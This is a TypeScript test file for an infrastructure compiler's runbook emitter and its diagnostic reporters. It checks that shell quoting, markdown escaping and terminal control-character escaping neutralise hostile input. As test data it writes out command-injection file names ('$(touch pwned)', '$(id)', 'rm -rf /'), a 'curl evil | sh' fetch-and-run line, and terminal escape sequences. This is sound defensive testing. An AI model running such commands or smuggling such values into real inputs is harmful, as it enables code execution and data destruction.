// Safe text: manifest text quoted for the shell and escaped for markdown in the runbook;
// control characters escaped and long lines clipped in every terminal-facing reporter.
import { test } from "uvu";
import * as assert from "uvu/assert";
import { execFileSync } from "node:child_process";
import { htmlCommentText, markdownCode, markdownText, shellQuote } from "../../compiler/emit/runbook/safe-text.js";
import { MAX_FRAME_WIDTH, codeFrame } from "../../compiler/report/code-frame.js";
import { colors } from "../../compiler/report/colors.js";
import { formatText } from "../../compiler/report/text.js";
import { escapeData } from "../../compiler/report/github.js";
import type { Diagnostic } from "../../compiler/diagnostics/diagnostic.js";
import { scratch } from "./support.js";

const plain = colors(false);
const at = (line: number, column: number, endColumn = column + 1) => ({
  start: { line, column, offset: 0 },
  end: { line, column: endColumn, offset: 0 },
});

test("shellQuote: safe words as they are, everything else one single-quoted word", () => {
  assert.is(shellQuote("stacks/prod-eu.yaml"), "stacks/prod-eu.yaml");
  assert.is(shellQuote("$(touch pwned).yaml"), "'$(touch pwned).yaml'");
  assert.is(shellQuote("it's.yaml"), "'it'\\''s.yaml'");
  assert.is(shellQuote("-rf.yaml"), "'-rf.yaml'");
  assert.is(shellQuote(""), "''");
  for (const nasty of ["$(id)", "`id`", "a b", "x;rm -rf /", "it's", "new\nline", "*", "~root"]) {
    const out = execFileSync("bash", ["-c", `printf '%s' ${shellQuote(nasty)}`], { encoding: "utf8" });
    assert.is(out, nasty, `bash sees ${JSON.stringify(nasty)} as one literal word`);
  }
});

test("markdownText: one paragraph, markup characters escaped, no fences or comments", () => {
  assert.is(markdownText("Development cluster; rebuilt freely."), "Development cluster; rebuilt freely.");
  assert.is(markdownText("a\n```sh\nrm -rf /\n```"), "a \\`\\`\\`sh rm -rf / \\`\\`\\`");
  assert.is(markdownText("x <!-- hide the rest"), "x \\<!-- hide the rest");
  assert.is(markdownText("# heading"), "\\# heading");
  assert.is(markdownText("1. list"), "\\1. list");
  assert.is(markdownText("[link](javascript:x) *bold* | cell"), "\\[link\\](javascript:x) \\*bold\\* \\| cell");
  assert.is(markdownCode("a`b"), "``a`b``");
  assert.is(markdownCode("`x"), "`` `x ``");
  assert.not.match(htmlCommentText("evil --> <script>"), "-->");
  assert.not.match(htmlCommentText("a--->b"), "--");
});

test("the runbook quotes the manifest's file name in commands and escapes its free text", async () => {
  const ws = scratch();
  const name = "$(touch pwned).yaml";
  ws.dev(name, (t) =>
    t
      .replace(/description: .*/, 'description: "Dev\\n```sh\\ncurl evil | sh\\n```\\n<!-- hidden -->"')
      .replace(/reason: One NAT gateway.*/, "reason: \"cost `$(id)` <!-- and *more*\""),
  );
  const result = await ws.compile([name], { emit: true });
  assert.equal(result.diagnostics.filter((d) => d.severity === "error"), []);
  const runbook = result.stacks[0]!.files!.find((f) => f.path === "RUNBOOK.md")!.contents;
  const bind = runbook.split("\n").find((l) => l.startsWith("stackc bind "))!;
  // double-quoted with `$` escaped (shell/quote.ts: shellcheck reads '$(…)' as a mistake)
  assert.is(bind, 'stackc bind "\\$(touch pwned).yaml" --terraform-output dev-eu-west-1.tf-output.json');
  // the command, pasted into bash, passes the name as one literal argument and runs nothing
  const args = execFileSync("bash", ["-c", `stackc() { printf '[%s]' "$@"; }; ${bind}`], { encoding: "utf8", cwd: ws.dir });
  assert.is(args, "[bind][$(touch pwned).yaml][--terraform-output][dev-eu-west-1.tf-output.json]");
  assert.match(runbook, "run `stackc diff '$(touch pwned).yaml'` to see");
  // free text cannot open a fence or a comment: the fences and comments are the template's own
  const fences = (text: string) => text.split("\n").filter((l) => l.startsWith("```")).length;
  const clean = await scratch().compile(["dev.yaml"], { emit: true });
  const cleanRunbook = clean.stacks[0]!.files!.find((f) => f.path === "RUNBOOK.md")!.contents;
  assert.is(fences(runbook), fences(cleanRunbook));
  const comments = (text: string) => (text.match(/(?<!\\)<!--/g) ?? []).length;
  assert.is(comments(runbook), comments(cleanRunbook), "only the header comment opens one");
  assert.match(runbook, "Dev \\`\\`\\`sh curl evil \\| sh \\`\\`\\` \\<!-- hidden --\\>");
  assert.match(runbook, "cost \\`$(id)\\` \\<!-- and \\*more\\*");
});

test("the text reporter escapes control characters in messages, paths and code frames", () => {
  const source = "a: 1\n# \u001b]0;pwned\u0007 title\nb: 2\n";
  const d: Diagnostic = { code: "STK-SCHEMA-001", severity: "error", message: "Bad \u001b[2J key \u202e", file: "x\u001b.yaml", range: at(2, 3) };
  const out = formatText({ diagnostics: [d], sources: new Map([["x\u001b.yaml", source]]), stackCount: 1, colors: plain });
  // eslint-disable-next-line no-control-regex
  assert.not.match(out, /[\u0000-\u0008\u000b-\u001f\u007f\u202e]/);
  assert.match(out, "x\\u001B.yaml:2:3 - error STK-SCHEMA-001: Bad \\u001B[2J key \\u202E");
  assert.match(out, "2 # \\u001B]0;pwned\\u0007 title\n");
  assert.match(out, "\n    ~~~~~~\n", "the underline covers the escape as shown");
  assert.is(escapeData("a\u001b[31mb"), "a\\u001B[31mb");
});

test("code frames are clipped to a window around the column", () => {
  const line = `k: ${"a".repeat(500_000)}X${"b".repeat(500_000)}`;
  const column = line.indexOf("X") + 1;
  const frame = codeFrame(`top: 1\n${line}\n`, at(2, column), plain);
  const [shown, underline] = frame.split("\n");
  assert.ok(shown!.length < MAX_FRAME_WIDTH + 10, `frame line is ${shown!.length} characters`);
  assert.ok(shown!.includes("…aaaa") && shown!.includes("X") && shown!.endsWith("bbb…"));
  assert.is(underline!.indexOf("~"), shown!.indexOf("X"), "the underline is under the column");
  const short = codeFrame("a: b\n", at(1, 4), plain);
  assert.is(short, "1 a: b\n     ~\n");
});

test.run();
